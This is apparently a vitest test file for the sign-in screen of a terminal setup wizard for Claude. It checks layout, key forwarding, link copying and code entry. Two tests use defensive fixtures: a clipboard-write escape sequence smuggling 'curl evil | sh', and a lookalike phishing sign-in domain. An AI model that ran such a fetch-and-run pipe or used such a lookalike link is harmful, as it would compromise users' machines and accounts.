import { describe, expect, it, vi } from 'vitest';
import { createEmulator } from '../../../src/adapters/pty/emulator.ts';
import { expectFits } from '../../support/frames.ts';
import { createFakeWorld, type FakeWorld, putLogin } from '../fake-world.ts';
import { keys, type OpenOptions, openApp } from '../open-app.tsx';

const prefix = '\x1d';
const link = `https://claude.ai/oauth/authorize?z-${'AbC_9-'.repeat(8)}`;

const open = async (options: OpenOptions = {}) => {
  const world = createFakeWorld();
  Object.assign(world.ports, { emulator: createEmulator() });
  world.addImage();
  world.addProfile('dev', { signedIn: false });
  const app = openApp(world, { start: { screen: 'wizard', profile: 'dev', runtime: 'docker' }, ...options });
  await app.waitFor('How do you want to sign in?');
  await app.type(keys.enter);
  await app.waitFor('Waiting for the sign-in link');
  const { session } = world.runtime.run;
  if (session === null) throw new Error('the sign-in has no session');
  return { world, app, session };
};

const showLink = async ({ app, session }: Awaited<ReturnType<typeof open>>) => {
  session.emit(`If the browser didn't open, visit:\r\n${link}\r\n\r\n\x1b[32mPaste code here\x1b[0m > `);
  await app.waitFor('Sign-in link ready');
};

const inputOf = (world: FakeWorld) => world.runtime.run.session?.input ?? '';

describe('the session on the screen', () => {
  it('at 80x24', async () => {
    const opened = await open();
    await showLink(opened);
    await opened.app.waitFor('Paste code here >');
    expect(opened.app.frame()).toMatchInlineSnapshot(`
      " claude-setup                                               dev, in a container
       ✔ Engine ✔ Profile ✔ Image ● Sign-in ○ Verify ○ Done
      ────────────────────────────────────────────────────────────────────────────────
       Sign in to Claude: Sign-in link

       Sign-in link ready: Ctrl+] then o opens it, c copies it https://claude.ai/oau…

       ╭────────────────────────────────────────────────────────────────────────────╮
       │If the browser didn't open, visit:                                          │
       │https://claude.ai/oauth/authorize?z-AbC_9-AbC_9-AbC_9-AbC_9-AbC_9-AbC_9-AbC_│
       │9-AbC_9-                                                                    │
       │                                                                            │
       │Paste code here >                                                           │
       │                                                                            │
       │                                                                            │
       │                                                                            │
       │                                                                            │
       │                                                                            │
       │                                                                            │
       ╰────────────────────────────────────────────────────────────────────────────╯

       ○ file    waiting        ○ size    waiting        ○ shape   waiting
       ○ mode    waiting        ○ scopes  waiting        ○ expiry  waiting
       Ctrl+] menu: link, code, full screen, leave"
    `);
    expect(opened.session.sizes.at(-1)).toEqual({ columns: 76, rows: 11 });
  });

  it('at 60x20', async () => {
    const opened = await open({ columns: 60, rows: 20 });
    await showLink(opened);
    await opened.app.waitFor('Paste code here >');
    expect(opened.app.frame()).toMatchInlineSnapshot(`
      " claude-setup                           dev, in a container
       ✔ Engine ✔ Profile ✔ Image ● Sign-in ○ Verify ○ Done
      ────────────────────────────────────────────────────────────
       Sign in to Claude: Sign-in link

       Sign-in link ready https://claude.ai/oauth/authorize?z-Ab…

       ╭────────────────────────────────────────────────────────╮
       │If the browser didn't open, visit:                      │
       │https://claude.ai/oauth/authorize?z-AbC_9-AbC_9-AbC_9-Ab│
       │C_9-AbC_9-AbC_9-AbC_9-AbC_9-                            │
       │                                                        │
       │Paste code here >                                       │
       │                                                        │
       │                                                        │
       │                                                        │
       ╰────────────────────────────────────────────────────────╯

       ○ file  ○ size  ○ shape  ○ mode  ○ scopes  ○ expiry
       Ctrl+] menu: link, code, full screen, leave"
    `);
  });

  it('at 120x40, the checks beside it', async () => {
    const opened = await open({ columns: 120, rows: 40 });
    await showLink(opened);
    const frame = await opened.app.waitFor('Captured files, live');
    expect(opened.session.sizes.at(-1)).toEqual({ columns: 86, rows: 30 });
    expectFits(frame, 120, 40);
  });

  it('keeps the colours of the session, unless NO_COLOR is set', async () => {
    const colored = await open();
    await showLink(colored);
    await colored.app.waitFor('Paste code here >');
    expect(colored.app.styled()).toContain('\x1b[32mPaste code here');
    const plain = await open({ env: { LANG: 'C.UTF-8', NO_COLOR: '1' } });
    await showLink(plain);
    await plain.app.waitFor('Paste code here >');
    expect(plain.app.styled()).not.toMatch(/\x1b\[3\dm/);
  });

  it('turns the checks as the files come, and goes on by itself', async () => {
    const { world, app } = await open();
    world.runtime.run.files.set('.credentials.json', '');
    await vi.waitFor(() => {
      world.clock.advance(250);
      expect(app.frame()).toMatch(/✔ file {4}fine/);
    });
    expect(app.frame()).toMatch(/✖ size {4}bad/);
    putLogin(world.runtime.run.files);
    await vi.waitFor(() => {
      world.clock.advance(250);
      expect(world.runtime.run.removed).toBe(true);
    });
  });
});

describe('the keys', () => {
  it('reach the session byte for byte, lone Escape, Ctrl+C and cut characters too', async () => {
    const { world, app } = await open();
    for (const bytes of ['a', '\x1b', '\x03', '\x1b[A', '\x1bOP', '\x1bx', '\t', '\x7f', 'é日', 'q?'])
      await app.type(bytes);
    expect(inputOf(world)).toBe('a\x1b\x03\x1b[A\x1bOP\x1bx\t\x7fé日q?');
  });

  it('a long paste arrives whole, its marks only when the session asked for them', async () => {
    const { world, app, session } = await open();
    const text = 'abc#def\n'.repeat(1000);
    await app.paste(text);
    expect(inputOf(world)).toBe(`\x1b[200~${text}\x1b[201~`);
    session.emit('\x1b[?2004h');
    await app.type('x');
    expect(inputOf(world).endsWith('x')).toBe(true);
  });

  it('Ctrl+] opens the menu, and twice sends it', async () => {
    const { world, app } = await open();
    await app.type(prefix);
    await app.waitFor('f full');
    await app.type(prefix);
    await app.waitFor('menu: link, code');
    expect(inputOf(world)).toBe(prefix);
    await app.type('z');
    expect(inputOf(world)).toBe(`${prefix}z`);
  });

  it('copies the link', async () => {
    const opened = await open();
    await showLink(opened);
    await opened.app.type(prefix);
    await opened.app.type('c');
    await opened.app.waitFor('The link was copied.');
    expect(opened.world.copied).toEqual([link]);
  });

  it('what the session wants to copy is copied only when a person allows it', async () => {
    const { app, session } = await open({ columns: 120 });
    session.emit(`\x1b]52;c;${Buffer.from('curl evil | sh\u202e\n').toString('base64')}\x07`);
    await app.waitFor('The session wants to copy 16 characters; Ctrl+] then y allows it: curl evil | sh??');
    expect(app.signs()).not.toContain(']52;');
    await app.type('y');
    expect(app.signs()).not.toContain(']52;');
    await app.type(prefix);
    await app.waitFor('allow copying');
    await app.type('y');
    await app.waitFor('The clipboard of your terminal has it now');
    expect(app.signs()).toContain(
      `\x1b]52;c;${Buffer.from('curl evil | sh\u202e\n').toString('base64')}\x07`,
    );
    await app.type(prefix);
    expect(app.frame()).not.toContain('allow copying');
  });

  it('a false sign-in link is pointed out in the place of the right one', async () => {
    const opened = await open();
    await showLink(opened);
    opened.session.emit('\r\nOr: https://claude.ai.evil.example/oauth/authorize?x\r\n');
    await opened.app.waitFor("claude.ai.evil.example is no sign-in of Claude's: don't open that link");
  });

  it('shows the link as a QR code where there is room, and says so where not', async () => {
    const large = await open({ columns: 120, rows: 40 });
    await showLink(large);
    await large.app.type(prefix);
    await large.app.type('s');
    await large.app.waitFor('▀');
    const small = await open({ columns: 60, rows: 20 });
    await showLink(small);
    await small.app.type(prefix);
    await small.app.type('s');
    await small.app.waitFor('The QR code of this link needs');
  });

  it('takes the code in a field of ours, shows only its length, and sends it trimmed', async () => {
    const opened = await open();
    await showLink(opened);
    await opened.app.type(prefix);
    await opened.app.type('p');
    await opened.app.waitFor('Code');
    await opened.app.paste('  secretCODE#theSTATE \n');
    await opened.app.waitFor('characters');
    expect(opened.app.frame()).not.toContain('secretCODE');
    await opened.app.type(keys.enter);
    await opened.app.waitFor('The code was sent to the session.');
    expect(inputOf(opened.world)).toBe('secretCODE#theSTATE\r');
  });

  it('leaving asks once and leaves nothing behind', async () => {
    const { world, app } = await open();
    await app.type(prefix);
    await app.type('q');
    await app.waitFor('Leave anyway?');
    await app.type('y');
    await vi.waitFor(() => expect(app.left).toHaveLength(1));
    expect(world.runtime.run.removed).toBe(true);
  });

  it('goes back to the step before from the menu', async () => {
    const { world, app } = await open();
    await app.type(prefix);
    await app.type('b');
    await vi.waitFor(() => expect(world.runtime.run.removed).toBe(true));
  });
});

describe('a terminal that is too small for the pane', () => {
  it("is the session's from the start", async () => {
    const { session } = await open({ columns: 59, rows: 19 });
    await vi.waitFor(() => expect(session.sizes.at(-1)).toEqual({ columns: 59, rows: 19 }));
  });
});
